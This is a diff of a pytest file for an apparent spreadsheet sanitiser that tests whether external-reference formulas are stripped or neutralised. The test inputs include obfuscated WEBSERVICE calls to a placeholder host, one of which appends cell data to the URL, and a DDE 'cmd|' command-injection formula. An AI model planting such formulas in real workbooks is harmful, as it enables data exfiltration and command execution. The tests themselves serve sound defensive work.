@@ -265,7 +265,7 @@ def with_outside(formula: bytes = b"[1]Sheet1!$A$1") -> bytes:
 
     def sheet(content: bytes) -> bytes:
         cell = b'<c r="C3"><f>' + formula + b"</f><v>42</v></c>"
-        return re.sub(rb'<c r="C3">.*?</c>', cell, content)
+        return re.sub(rb'<c r="C3">.*?</c>', lambda _: cell, content)
 
     data = with_relation(made(lambda _: None), "externalLink", "externalLinks/externalLink1.xml")
     reference = b'<externalReferences><externalReference r:id="rIdX" '
@@ -287,6 +287,122 @@ def test_a_formula_that_reads_from_outside_keeps_its_result_only(formula: bytes)
     assert [name for name in package.members if "external" in name] == []
     assert b"externalReference" not in package.read("xl/workbook.xml")
     assert (opened(copy)["Biểu"]["C3"].value, "1 ô có công thức" in copy.notes[0]) == (42, True)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        b'&#87;EBSERVICE("http://x")',
+        b'_xlfn.&#x57;&#x45;BSERVICE ("http://x")',
+        b"&#91;1]Sheet1!$A$1",
+        b"'C:\\so lieu\\[nam 2023.xlsx]Trang 1'!A1",
+        b"SUM(1,[nam-2023.xlsx]Trang1!A1)",
+        b"cmd|'/c calc'!A0",
+    ],
+)
+def test_an_outside_formula_in_disguise_keeps_its_result_only(formula: bytes):
+    copy = marked(with_outside(formula), said("Biểu", "B2"))
+    assert (opened(copy)["Biểu"]["C3"].value, "1 ô có công thức" in copy.notes[0]) == (42, True)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [b'<![CDATA[WEBSERVICE("http://x")]]>', b'WEB<!-- -->SERVICE("http://x")', b'WEB<?x?>SERVICE("http://x")'],
+    ids=["CDATA", "comment", "instruction"],
+)
+def test_a_formula_with_markup_in_it_makes_the_copy_be_built_anew(formula: bytes):
+    copy = marked(edited(made(lambda _: None), {"xl/worksheets/sheet1.xml": with_formula(formula)}), said("Biểu", "B2"))
+    assert (opened(copy)["Biểu"]["C3"].value, "dựng lại" in copy.notes[0]) == (42, True)
+
+
+def with_formula(formula: bytes) -> Callable[[bytes], bytes]:
+    cell = b'<c r="C3"><f>' + formula + b"</f><v>42</v></c>"
+    return lambda content: re.sub(rb'<c r="C3">.*?</c>', lambda _: cell, content)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        b"SUM(Bang[S&#7889;])-Trang2!A1",
+        b"'a|b'!A1",
+        b'"x|"&amp;A1&amp;"!"',
+        b"Bang[[#This Row],[A]]*Trang2!B1",
+        b"B2&lt;&gt;1",
+    ],
+)
+def test_a_formula_that_only_looks_as_if_it_read_from_outside_stays(formula: bytes):
+    copy = marked(edited(made(lambda _: None), {"xl/worksheets/sheet1.xml": with_formula(formula)}), said("Biểu", "B2"))
+    package = open_package(copy.content)
+    assert (copy.notes, formula in package.read("xl/worksheets/sheet1.xml")) == ((), True)
+
+
+def test_a_cell_that_shares_an_outside_formula_and_stands_before_it_keeps_its_result():
+    shared = b'<c r="B3"><f t="shared" si="0"/><v>41</v></c>'
+    first = b'<c r="C3"><f t="shared" ref="B3:C3" si="0">WEBSERVICE("http://x"&amp;A1)</f><v>42</v></c>'
+    data = edited(made(lambda _: None), {"xl/worksheets/sheet1.xml": sheet_with(shared + first)})
+    page = opened(marked(data, said("Biểu", "B2")))["Biểu"]
+    assert (page["B3"].value, page["C3"].value) == (41, 42)
+
+
+DISGUISED = {
+    "a validation": (
+        b'<dataValidations><dataValidation sqref="A1" type="custom"><formula1>%s</formula1></dataValidation>'
+        b"</dataValidations>"
+    ),
+    "a limit of a condition": (
+        b'<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale>'
+        b'<cfvo type="formula" val="%s"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale>'
+        b"</cfRule></conditionalFormatting>"
+    ),
+    "a name": b"",
+}
+
+
+@pytest.mark.parametrize("place", DISGUISED)
+@pytest.mark.parametrize(
+    "formula",
+    [b"&#87;EBSERVICE(A1)", b"<![CDATA[WEBSERVICE(A1)]]>", b"WEB<!---->SERVICE(A1)"],
+    ids=["&#", "CDATA", "<!"],
+)
+def test_no_disguise_takes_an_outside_source_back(place: str, formula: bytes):
+    if place == "a limit of a condition" and b"<" in formula:
+        formula = b"WEBSERVICE(A1)"
+    name = b'<definedNames><definedName name="x">%s</definedName></definedNames>'
+    changes = (
+        {"xl/workbook.xml": before(b"<calcPr", name.replace(b"%s", formula))}
+        if place == "a name"
+        else {"xl/worksheets/sheet1.xml": sheet_with(INSIDE, after=DISGUISED[place].replace(b"%s", formula))}
+    )
+    copy = marked(edited(made(lambda _: None), changes), said("Biểu", "B2"))
+    package = open_package(copy.content)
+    assert "dựng lại" in copy.notes[0]
+    assert [n for n in package.members if re.search(rb"WEBSERVICE|&#87;|WEB<!", package.read(n))] == []
+
+
+def test_a_table_s_own_formula_that_reads_from_outside_makes_the_copy_be_built_anew():
+    def fill(page: Worksheet) -> None:
+        for row in (["Mã", "Số"], ["a", 1], ["b", 2]):
+            page.append(row)
+        page.add_table(Table(displayName="Bang", ref="A4:B6"))
+
+    def column(content: bytes) -> bytes:
+        inner = b"<calculatedColumnFormula>&#87;EBSERVICE(A1)</calculatedColumnFormula></tableColumn>"
+        return re.sub(rb'(<tableColumn id="2"[^>]*?)\s*/>', rb"\1>" + inner, content)
+
+    data = edited(made(fill), {"xl/tables/table1.xml": column})
+    assert b"calculatedColumn" in open_package(data).read("xl/tables/table1.xml")
+    assert "dựng lại" in marked(data, said("Biểu", "B2")).notes[0]
+
+
+def test_a_name_for_an_outside_cell_is_known_in_formulas_whatever_its_case():
+    name = b'<definedNames><definedName name="NguonNgoai">[1]Sheet1!$A$1</definedName></definedNames>'
+    data = edited(with_outside(b"nguonNGOAI*2"), {"xl/workbook.xml": before(b"<calcPr", name)})
+    assert opened(marked(data, said("Biểu", "B2")))["Biểu"]["C3"].value == 42
+
+
+def test_parts_that_nothing_refers_to_do_not_keep_a_copy_from_being_edited_in_place():
+    data = edited(made(lambda _: None), {}, **{"xl/media/image9.png": b"\x89PNG", "xl/la.bin": b"\0\1"})
+    assert marked(data, said("Biểu", "B2")).notes == ()
 
 
 def test_a_formula_of_the_unit_s_own_stays():
